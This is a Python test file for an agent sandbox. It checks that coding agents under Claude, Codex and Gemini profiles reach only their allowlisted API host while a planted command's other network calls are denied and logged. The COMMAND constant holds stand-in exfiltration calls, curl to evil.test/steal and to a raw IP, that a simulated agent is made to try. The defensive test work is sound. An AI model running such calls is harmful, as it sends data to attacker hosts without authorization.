# SPDX-License-Identifier: Apache-2.0
"""The main job on real input: a coding agent does a task and reaches its maker's service by the allowlist of its profile, and
nobody else: what it is made to try is denied, is shown, and is not even looked up."""

import json
import shutil

import pytest
from agents import agents, options  # noqa: F401  (a fixture)
from conftest import PREFIX
from internet import API, OTHER
from stand_ins import CLOSING, GenerateApi, MessagesApi, ResponsesApi

COMMAND = ("curl -sS -m 20 https://evil.test/steal; curl -sS -m 20 http://93.184.216.35/;"
           " printf 'hello from inside\\n' >/workspace/greeting.txt")
# profile: stand-in, the name that it serves at, the variable with a key, options besides
AGENTS = {
    "claude-one-shot": (MessagesApi, "api.anthropic.com", "ANTHROPIC_API_KEY", ["--network"]),
    "codex-one-shot": (ResponsesApi, "api.openai.com", "CODEX_API_KEY", ["--arg=--model", "--arg=stand-in"]),
    "gemini-one-shot": (GenerateApi, "generativelanguage.googleapis.com", "GEMINI_API_KEY", []),
}


@pytest.mark.parametrize("profile", AGENTS)
def test_task(agents, internet, private, profile):  # noqa: F811
    kind, name, key, more = AGENTS[profile]
    shutil.copytree(PREFIX / "share/inner/profiles", private.home / ".config/inner/profiles")
    shutil.copy(internet.directory / "ca.pem", private.work / "ca.pem")
    certificates = [word for variable in ("NODE_EXTRA_CA_CERTS", "SSL_CERT_FILE", "CODEX_CA_CERTIFICATE")
                    for word in ("-e", f"{variable}=/workspace/ca.pem")]
    plan = json.loads(private("run", "-n", "--json", "-p", profile, *more).stdout)
    assert plan["network"] == "allowlist" and name in plan["allow-hosts"]

    api = kind(COMMAND)
    internet.names.names[name] = [API]
    internet.names.asked.clear()
    before = internet.contacted(OTHER)
    with internet.serve(API, 443, api.serve, internet.tls_for(name)):
        done = private("run", "-p", profile, "-w", private.work, *more, *options(agents), *certificates, "--timeout", "300",
                       "--arg", "Write a greeting into greeting.txt", env={key: "sk-test-0123456789"}, timeout=330)
    said = done.stderr.decode()
    assert done.returncode == 0, (done.stdout, said, [(path, str(body)[:300]) for path, body in api.requests])
    assert CLOSING in done.stdout.decode(), done
    assert (private.work / "greeting.txt").read_text() == "hello from inside\n"
    assert api.requests
    assert "the sandbox may not reach evil.test: it is not on the allowlist" in said
    assert internet.contacted(OTHER) == before
    assert set(internet.names.asked) <= set(plan["allow-hosts"])
